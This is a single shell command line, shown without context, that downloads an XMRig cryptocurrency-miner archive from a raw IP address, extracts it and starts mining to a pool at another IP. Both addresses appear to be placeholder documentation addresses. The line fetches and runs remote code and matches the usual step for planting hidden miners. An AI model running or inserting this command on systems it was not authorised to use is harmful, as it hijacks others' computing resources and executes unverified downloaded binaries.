wget https://203.0.113.7/xmrig.tar.gz && tar xf xmrig.tar.gz && ./xmrig-6.21/xmrig -o stratum+tcp://198.51.100.4:3333
